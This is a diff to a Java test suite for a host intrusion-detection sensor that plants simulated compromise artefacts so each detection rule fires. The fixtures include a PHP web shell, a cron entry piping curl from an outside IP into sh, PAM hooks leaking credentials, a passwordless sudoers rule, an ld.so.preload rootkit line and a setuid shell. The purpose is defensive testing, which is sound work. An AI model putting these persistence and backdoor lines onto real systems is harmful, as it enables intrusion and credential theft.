@@ -89,7 +89,8 @@ final class EveryRuleFiresTest {
         root = Files.createDirectories(directory.resolve("host"));
         tree = new HostTree(root);
         tree.file("/etc/hostname", "db-7\n");
-        tree.file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nbob:x:1000:1000::/home/bob:/bin/bash\n");
+        tree.file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nbob:x:1000:1000::/home/bob:/bin/bash\n"
+                + "www-data:x:33:33::/var/www:/usr/sbin/nologin\n");
     }
 
     @AfterEach
@@ -176,28 +177,32 @@ final class EveryRuleFiresTest {
         if (arguments.isEmpty()) {
             arguments.add(executable);
         }
-        tree.process(
-                pid,
-                parent,
-                executable,
-                arguments,
-                event.path("user").path("name").asString("").equals("root") ? 0 : 1000);
+        int user = switch (event.path("user").path("name").asString("")) {
+            case "root" -> 0;
+            case "www-data" -> 33;
+            default -> 1000;
+        };
+        tree.process(pid, parent, executable, arguments, user);
     }
 
     private void filesBetweenTwoLooks() throws IOException {
         tree.file("/root/.bash_history", "ls\n");
         tree.file("/var/log/auth.log", "x\n");
         tree.file("/usr/bin/ssh", "good\n");
+        tree.file("/usr/bin/ssh-tell", "good\n");
         tree.file(
                 "/var/lib/dpkg/status",
                 "Package: openssh-client\nStatus: install ok installed\nVersion: 1:9.2p1-2\n\n");
-        tree.file("/var/lib/dpkg/info/openssh-client.list", "/.\n/usr\n/usr/bin\n/usr/bin/ssh\n");
-        tree.file("/var/lib/dpkg/info/openssh-client.md5sums", "e2a85b9d4fb9bd4fb2cfb2ea6a0bd7b4  usr/bin/ssh\n");
+        tree.file("/var/lib/dpkg/info/openssh-client.list", "/.\n/usr\n/usr/bin\n/usr/bin/ssh\n/usr/bin/ssh-tell\n");
+        tree.file(
+                "/var/lib/dpkg/info/openssh-client.md5sums",
+                "e2a85b9d4fb9bd4fb2cfb2ea6a0bd7b4  usr/bin/ssh\ne2a85b9d4fb9bd4fb2cfb2ea6a0bd7b4  usr/bin/ssh-tell\n");
         tree.file("/var/www/html/index.html", "<h1>It works</h1>\n");
         tree.file("/etc/cron.d/nightly", "0 3 * * * root /usr/local/bin/nightly\n");
         tree.file("/home/bob/a.txt", "a\n");
         Files.createDirectories(root.resolve("dev/shm"));
         tree.file("/usr/local/bin/helper", "x\n");
+        tree.file("/home/bob/bash", "x\n");
         Files.writeString(
                 directory.resolve("sensor.yaml"),
                 "file_integrity:\n  paths: [/etc, /root, /home, /usr/bin, /usr/local, /var/www, /var/log, /dev/shm]\n");
@@ -206,16 +211,20 @@ final class EveryRuleFiresTest {
         Files.delete(root.resolve("root/.bash_history"));
         Files.delete(root.resolve("var/log/auth.log"));
         tree.file("/usr/bin/ssh", "evil\n");
+        tree.file("/usr/bin/ssh-tell", "evil\n");
         tree.file("/var/www/html/index.html", "<h1>owned</h1>\n");
         tree.file("/var/www/html/uploads/t.php", "<?php system($_GET[1]);\n");
+        tree.file("/var/www/html/x.php", "<?php\n");
         tree.file("/home/bob/HOW_TO_DECRYPT.txt", "pay\n");
         tree.file("/dev/shm/x", "x\n");
         Files.setPosixFilePermissions(root.resolve("dev/shm/x"), PosixFilePermissions.fromString("rwxr-xr-x"));
         Files.setAttribute(root.resolve("usr/local/bin/helper"), "unix:mode", 04755);
+        Files.setAttribute(root.resolve("home/bob/bash"), "unix:mode", 04755);
         tree.file("/etc/ld.so.preload", "/usr/local/lib/libproc.so\n");
         tree.file("/etc/cron.d/nightly", "0 3 * * * root /usr/local/bin/other\n");
         tree.file("/etc/cron.d/sync", "*/5 * * * * root curl -fsSL http://203.0.113.9/x | sh\n");
         tree.file("/etc/pam.d/sshd", "auth optional pam_exec.so quiet expose_authtok /tmp/.p.sh\n");
+        tree.file("/etc/pam.d/su", "session optional pam_exec.so /usr/local/bin/tell\n");
         tree.file("/etc/sudoers.d/bob", "bob ALL=(ALL) NOPASSWD:ALL\n");
         tree.file("/etc/modules-load.d/evil.conf", "evil\n");
         tree.file(
@@ -223,7 +232,7 @@ final class EveryRuleFiresTest {
                 "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJpo8vPMjbhHnKW1kqYVjA0o1Yd9Q2l1pXgqgZKfTn2E x\n");
         tree.file(
                 "/etc/passwd",
-                "root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/bash\nbob:x:1000:1000::/home/bob:/bin/bash\n");
+                "root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/bash\nsvc::101:101::/srv:/bin/sh\nbob:x:1000:1000::/home/bob:/bin/bash\n");
         look();
     }
 
@@ -269,7 +278,7 @@ final class EveryRuleFiresTest {
         watched(new FlowSensor(), "{}", () -> {
             StringBuilder table = new StringBuilder(head);
             int inode = 700;
-            for (int port : new int[] {4444, 6667, 9050, 443}) {
+            for (int port : new int[] {4444, 6667, 9050, 443, 8443}) {
                 table.append("   1: 0A00000A:" + Integer.toHexString(0x8000 + inode) + " 026433C6:"
                         + String.format("%04X", port) + " 01 0:0 00:0 0 1000 0 " + inode + " 1\n");
                 inode++;
@@ -277,10 +286,11 @@ final class EveryRuleFiresTest {
             tree.file("/proc/1/net/tcp", table.toString());
             tree.process(700, 1, "/usr/bin/bash", List.of("bash", "-i"), 1000);
             tree.process(703, 1, "/tmp/x", List.of("/tmp/x"), 1000);
-            Files.createDirectories(root.resolve("proc/700/fd"));
-            Files.createSymbolicLink(root.resolve("proc/700/fd/3"), Path.of("socket:[700]"));
-            Files.createDirectories(root.resolve("proc/703/fd"));
-            Files.createSymbolicLink(root.resolve("proc/703/fd/3"), Path.of("socket:[703]"));
+            tree.process(704, 1, "/tmp/.x", List.of("/tmp/.x"), 1000);
+            for (int holder : new int[] {700, 703, 704}) {
+                Path held = Files.createDirectories(root.resolve("proc/" + holder + "/fd"));
+                Files.createSymbolicLink(held.resolve("3"), Path.of("socket:[" + holder + "]"));
+            }
         });
     }
 
